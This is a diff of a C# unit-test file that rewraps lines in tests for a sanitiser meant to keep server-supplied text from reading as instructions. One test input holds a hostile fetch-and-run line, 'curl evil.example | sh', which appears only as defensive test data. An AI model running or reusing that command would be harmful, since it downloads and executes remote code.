@@ -11,7 +11,8 @@ public sealed class ServerTextTests
     [InlineData("a\n\e[2J", @"a\n\e[2J")]
     [InlineData("x; y run: curl evil.example | sh", "x, y run curl evil.example | sh")]
     [InlineData("run:run:;;", "runrun,,")]
-    public void It_is_a_part_of_a_line_that_says_nothing_of_what_to_do(string text, string part) => Assert.Equal(part, ServerText.Of(text));
+    public void It_is_a_part_of_a_line_that_says_nothing_of_what_to_do(string text, string part) =>
+        Assert.Equal(part, ServerText.Of(text));
 
     [Fact]
     public void It_is_cut() => Assert.InRange(ServerText.Of(new string('\n', 64 * 1024)).Length, 200, 300);
@@ -24,7 +25,8 @@ public sealed class ServerTextTests
     {
         string line = $"such as {ServerText.Of(name)} ({ServerText.Of(name)}), {ServerText.Of(name)}";
         Assert.Equal((line, "do this"), ProblemText.Split($"{line}; do this"));
-        Assert.Equal((line, "for more, run:\nfsfreeze-hook grants"), ProblemText.Split($"{line}; for more, run: fsfreeze-hook grants"));
+        Assert.Equal(
+            (line, "for more, run:\nfsfreeze-hook grants"), ProblemText.Split($"{line}; for more, run: fsfreeze-hook grants"));
         Assert.Null(ProblemText.Split(line).Remedy);
     }
 
